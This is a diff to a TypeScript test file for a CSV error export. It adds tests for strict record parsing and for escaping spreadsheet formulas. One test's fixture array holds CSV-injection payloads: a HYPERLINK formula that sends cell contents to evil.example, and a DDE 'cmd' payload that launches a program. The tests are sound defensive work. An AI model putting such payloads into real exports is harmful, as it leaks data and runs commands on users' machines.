@@ -1,4 +1,5 @@
-// GET errors CSV: RFC 4180 quoting survives commas, quotes and newlines, and pages stream in order.
+// GET errors CSV: RFC 4180 quoting survives commas, quotes and newlines, pages stream in order, and
+// a cell a spreadsheet would run as a formula is written as text.
 import { parse } from "csv-parse/sync";
 import { beforeAll, describe, expect, it } from "vitest";
 import type { Db } from "../lib/db";
@@ -8,6 +9,23 @@ let app: Db;
 beforeAll(async () => {
   app = await useFreshAppDatabase();
 });
+
+// Strict: every CR, LF or CRLF outside quotes ends a record and every record has the header's width,
+// as Excel and Python's csv read it (csv-parse alone would take a bare LF after a CRLF header as data).
+const parseStrict = (text: string) =>
+  parse(text, { columns: true, record_delimiter: ["\r\n", "\n", "\r"], relax_column_count: false, relax_quotes: false }) as Record<string, string>[];
+
+/** The value a reader gets back once it drops the ' that marks a formula as text. */
+const unescapeFormula = (cell: string) => cell.replace(/^'(?=[=+\-@\t\r])/, "");
+
+async function createRun(rows: Record<string, unknown>[]) {
+  const source = await app.source.create({ data: { name: "s", kind: "demo" } });
+  const database = await app.database.create({ data: { sourceId: source.id, name: "d", configJson: "{}" } });
+  const sync = await app.sync.create({ data: { sourceId: source.id, databaseId: database.id, name: "s", type: "track", query: "select 1", frequencyMinutes: 5, startAt: new Date() } });
+  const run = await app.syncRun.create({ data: { syncId: sync.id, status: "succeeded" } });
+  await app.runError.createMany({ data: rows.map((row, index) => ({ runId: run.id, rowNumber: index + 1, rowJson: JSON.stringify(row), reason: "refused" })) });
+  return run;
+}
 
 async function csvOf(runId: string) {
   const { streamErrorsCsv } = await import("../lib/runs/stream-errors-csv");
@@ -30,12 +48,32 @@ describe("streamErrorsCsv", () => {
       })),
     });
     const text = await csvOf(run.id);
-    const records = parse(text, { columns: true }) as Record<string, string>[];
+    const records = parseStrict(text);
     expect(Object.keys(records[0])).toEqual(["row", "reason", "userid", "event", "note", "nested", "flag"]);
     expect(records).toHaveLength(2_500);
     expect(records.map((record) => Number(record.row))).toEqual(Array.from({ length: 2_500 }, (_, index) => index + 1));
     expect(records[1]).toEqual({ row: "2", reason: 'A track call needs an "event", really', userid: "u,1", event: 'say "hi"', note: "line one\nline two", nested: '{"a":1}', flag: "true" });
     expect(text.startsWith("row,reason,userid,event,note,nested,flag\r\n")).toBe(true);
+  });
+
+  it("quotes a value holding a bare LF or CR, so a strict reader sees one record per row", async () => {
+    const run = await createRun([{ userid: "u1", note: "line1\nline2" }, { userid: "u2", note: "a\rb" }, { userid: "u3", note: "x" }]);
+    const text = await csvOf(run.id);
+    expect(text).toContain('"line1\nline2"');
+    expect(parseStrict(text).map((record) => record.note)).toEqual(["line1\nline2", "a\rb", "x"]);
+  });
+
+  it("writes cells that start with = + - @ tab or CR as text, and the values still read back", async () => {
+    const hostile = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"];
+    const run = await createRun(hostile.map((value, index) => ({ userid: `u${index}`, value, amount: -5 })));
+    const records = parseStrict(await csvOf(run.id));
+    expect(records).toHaveLength(hostile.length);
+    for (const [index, record] of records.entries()) {
+      expect(record.value.startsWith("'")).toBe(true);
+      expect(unescapeFormula(record.value)).toBe(hostile[index]);
+      // A number is a number in every spreadsheet: left as it is.
+      expect(record.amount).toBe("-5");
+    }
   });
 
   it("gives just the header for a run without errors", async () => {
